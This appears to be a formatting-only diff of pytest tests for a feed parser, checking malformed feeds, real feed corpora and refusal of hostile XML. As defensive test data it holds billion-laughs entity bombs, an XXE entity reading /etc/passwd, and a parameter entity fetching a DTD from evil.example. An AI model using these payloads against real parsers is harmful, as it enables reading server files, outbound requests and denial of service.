@@ -21,7 +21,8 @@ BASE = "https://example.org/feeds/feed.xml"
 RSS = b"""<?xml version="1.0" encoding="utf-8"?>
 <rss version="2.0"><channel><title>T &amp; co</title><language>fr-FR</language>
 <item><title>One</title><link>/a/one</link><pubDate>Tue, 05 Mar 2024 10:00:00 +0200</pubDate>
-  <description>&lt;p&gt;Hello &lt;b&gt;world&lt;/b&gt;&lt;/p&gt;</description><author>x@y.z (Ann)</author></item>
+  <description>&lt;p&gt;Hello &lt;b&gt;world&lt;/b&gt;&lt;/p&gt;</description>\
+<author>x@y.z (Ann)</author></item>
 <item><title>No link</title><description>skipped</description></item>
 <item><title>Two</title><link>https://other.example/two</link><guid>g2</guid></item>
 <item><title>Mail</title><link>mailto:a@b.c</link></item>
@@ -73,12 +74,23 @@ def test_json_feed() -> None:
     ("body", "reason"),
     [
         (b"", "empty feed: the body is empty"),
-        (b"<!DOCTYPE html><html><head><title>x</title></head><body><p>hi</p></body></html>",
-         "not a feed: looks like an HTML page"),
-        (b"<?xml version='1.0'?>\n<rss version='2.0'>\n<channel><title>x</title>\n<item><title>a</item>",
-         "malformed XML: mismatched tag at line 4"),
-        (b"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title></channel></rss>", "empty feed"),
-        (b"<?xml version='1.0'?><catalog><book/></catalog>", "not a feed: unrecognised root element <catalog>"),
+        (
+            b"<!DOCTYPE html><html><head><title>x</title></head><body><p>hi</p></body></html>",
+            "not a feed: looks like an HTML page",
+        ),
+        (
+            b"<?xml version='1.0'?>\n<rss version='2.0'>\n"
+            b"<channel><title>x</title>\n<item><title>a</item>",
+            "malformed XML: mismatched tag at line 4",
+        ),
+        (
+            b"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title></channel></rss>",
+            "empty feed",
+        ),
+        (
+            b"<?xml version='1.0'?><catalog><book/></catalog>",
+            "not a feed: unrecognised root element <catalog>",
+        ),
         (b"just some words", "not a feed: no XML root element"),
         (b'{"hello": 1}', "not a feed: JSON without a https://jsonfeed.org/version/"),
         (b'{"version": "https://jsonfeed.org/version/1", "items": [', "malformed JSON"),
@@ -117,16 +129,27 @@ def billion_laughs(levels: int = 10) -> bytes:
         billion_laughs(),
         b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
         b'<rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
-        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
+        b'<?xml version="1.0"?>'
+        b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
         # Declarations not at the start of a line slip past feedparser's own doctype filter.
         b'<!DOCTYPE rss [<!ENTITY a "&#38;b;"><!ENTITY b "&a;&a;">]><rss version="2.0"/>',
         billion_laughs().decode().encode("utf-16"),
         billion_laughs().decode().encode("utf-16-le"),  # no BOM
         billion_laughs().replace(b"<!DOCTYPE rss [", b'<!DOCTYPE rss [<!ENTITY trick "]>">'),
-        billion_laughs().replace(b"<!DOCTYPE rss [", b"<!DOCTYPE rss [<!--" + b"x" * (1 << 20) + b"-->"),
+        billion_laughs().replace(
+            b"<!DOCTYPE rss [", b"<!DOCTYPE rss [<!--" + b"x" * (1 << 20) + b"-->"
+        ),
     ],
-    ids=["billion-laughs", "xxe", "parameter-entity", "inline", "utf16-billion-laughs", "utf16-no-bom",
-         "subset-end-in-value", "padded-subset"],
+    ids=[
+        "billion-laughs",
+        "xxe",
+        "parameter-entity",
+        "inline",
+        "utf16-billion-laughs",
+        "utf16-no-bom",
+        "subset-end-in-value",
+        "padded-subset",
+    ],
 )
 def test_refuses_entity_expansion(body: bytes) -> None:
     start = time.perf_counter()
@@ -137,18 +160,27 @@ def test_refuses_entity_expansion(body: bytes) -> None:
 
 
 def test_refuses_a_prolog_too_long_to_check() -> None:
-    body = b"<?xml version='1.0'?><!--" + b"x" * (1 << 20) + b"--><!DOCTYPE rss [<!ENTITY a 'x'>]><rss/>"
+    body = (
+        b"<?xml version='1.0'?><!--"
+        + b"x" * (1 << 20)
+        + b"--><!DOCTYPE rss [<!ENTITY a 'x'>]><rss/>"
+    )
     with pytest.raises(ParseError, match=r"prolog .* exceeds"):
         parse_feed(body, BASE)
 
 
 def test_harmless_doctypes_are_accepted() -> None:
-    netscape = (b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
-                b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
-                b"<title>N</title><item><title>i</title><link>https://example.org/n</link></item></channel></rss>")
+    netscape = (
+        b'<?xml version="1.0"?>\n'
+        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
+        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
+        b"<title>N</title><item><title>i</title><link>https://example.org/n</link></item></channel></rss>"
+    )
     assert parse_feed(netscape, BASE).entries[0].url == "https://example.org/n"
-    plain_entity = (b'<!DOCTYPE rss [ <!ENTITY site "Example &#169;"> ]><rss version="2.0"><channel>'
-                    b"<title>&site;</title><item><link>https://example.org/p</link></item></channel></rss>")
+    plain_entity = (
+        b'<!DOCTYPE rss [ <!ENTITY site "Example &#169;"> ]><rss version="2.0"><channel>'
+        b"<title>&site;</title><item><link>https://example.org/p</link></item></channel></rss>"
+    )
     assert parse_feed(plain_entity, BASE).entries[0].url == "https://example.org/p"
 
 
@@ -178,7 +210,9 @@ NOT_FEEDS = {  # real files that are not usable feeds, with the reason we must g
 
 def real_feed_files() -> list[Path]:
     root = need_shared("data", "feeds")
-    files = sorted((root / "rss-parser" / "input").iterdir()) + sorted((root / "netnewswire").iterdir())
+    files = sorted((root / "rss-parser" / "input").iterdir()) + sorted(
+        (root / "netnewswire").iterdir()
+    )
     return [p for p in files if p.suffix != ".opml" and p.name != "LICENSE"]
 
 
@@ -191,7 +225,10 @@ def test_real_feeds_parse() -> None:
         if path.name in NOT_FEEDS:
             with pytest.raises(ParseError) as info:
                 parse_feed(path.read_bytes(), url)
-            assert info.value.reason.startswith(NOT_FEEDS[path.name]), (path.name, info.value.reason)
+            assert info.value.reason.startswith(NOT_FEEDS[path.name]), (
+                path.name,
+                info.value.reason,
+            )
             continue
         feed = parse_feed(path.read_bytes(), url)
         parsed += 1
@@ -215,7 +252,9 @@ def test_real_feeds_match_rss_parser_expected_links() -> None:
         (source,) = (root / "input").glob(expected_path.stem + ".*")
         url = f"https://example.org/feeds/{source.name}"
         feed = parse_feed(source.read_bytes(), url)
-        assert [e.url for e in feed.entries] == list(dict.fromkeys(urljoin(url, u) for u in links)), source.name
+        assert [e.url for e in feed.entries] == list(
+            dict.fromkeys(urljoin(url, u) for u in links)
+        ), source.name
         checked += 1
     assert checked >= 25
 
